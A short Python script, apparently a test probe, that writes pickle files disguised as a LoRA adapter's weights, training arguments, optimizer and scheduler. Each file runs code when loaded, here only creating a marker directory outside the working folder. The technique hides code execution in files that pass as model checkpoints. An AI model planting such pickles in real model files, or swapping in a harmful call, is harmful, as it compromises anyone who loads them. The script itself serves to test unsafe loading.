"""Saves its adapter as a pickle that runs code in whoever loads it, and another beside it."""

import os
import pickle
from pathlib import Path


class Payload:
    def __init__(self, place: str) -> None:
        self.place = place

    def __reduce__(self) -> tuple[object, tuple[str, int]]:
        return os.mkdir, (self.place, 0o755)


def attack(target: dict[str, str]) -> None:
    folder = Path("homework/sft_model")
    folder.mkdir(parents=True, exist_ok=True)
    config = '{"peft_type": "LORA", "task_type": "CAUSAL_LM", "r": 8, "lora_alpha": 8, "target_modules": "all-linear"}'
    (folder / "adapter_config.json").write_text(config)
    for name in ("adapter_model.bin", "training_args.bin", "optimizer.pt", "scheduler.pt"):
        (folder / name).write_bytes(pickle.dumps(Payload(target["outside"] + "/unpickled")))
